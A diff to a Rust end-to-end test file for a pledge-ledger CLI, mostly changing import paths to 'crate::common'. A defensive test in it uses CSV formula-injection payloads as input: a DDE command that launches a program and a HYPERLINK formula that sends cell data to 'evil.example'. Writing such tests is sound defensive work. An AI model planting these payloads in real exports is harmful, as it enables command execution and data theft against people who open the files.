@@ -1,9 +1,7 @@
 //! End-to-end: the projections of docs/guide.md §3 through the binary — the three points in time,
 //! filters, formats, rebuild, and the demo's story; tables are snapshot-tested.
 
-mod common;
-
-use common::{demo, json_lines, Env};
+use crate::common::{demo, json_lines, Env};
 use serde_json::Value;
 
 #[test]
@@ -236,9 +234,9 @@ fn tables_fit_every_width_and_split_no_token() {
 fn totals_beyond_64_bits_are_exact_not_saturated() {
     use pledger_core::event::{PledgeBody, Title};
     use pledger_core::{AreaCode, Body, CategoryCode, Date, Measure, MemberId, Unit};
-    let env = common::Env::founded();
+    let env = crate::common::Env::founded();
     let signer = |member: &str| pledger_log::sign::Signer {
-        origin: common::ORIGIN.into(),
+        origin: crate::common::ORIGIN.into(),
         member: MemberId::parse(member).unwrap(),
         key: pledger_log::keys::read_private(&env.path(&format!("{member}.key"))).unwrap(),
     };
@@ -279,11 +277,11 @@ fn totals_beyond_64_bits_are_exact_not_saturated() {
 
 #[test]
 fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
-    let env = common::Env::founded();
+    let env = crate::common::Env::founded();
     let area = "=cmd|' /C calc'!A0";
     env.ok(&["--key", "dns.key", "area", "add", "ML-9", "--name", area, "--level", "region", "--parent", "ML"]);
     let title = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
-    let id = env.ok(&common::pledge_with("psi.key", &[("--title", title), ("--area", "ML-9")]));
+    let id = env.ok(&crate::common::pledge_with("psi.key", &[("--title", title), ("--area", "ML-9")]));
     let csv_of = |args: &[&str]| -> Vec<String> {
         let text = env.ok(args);
         csv::Reader::from_reader(text.as_bytes())
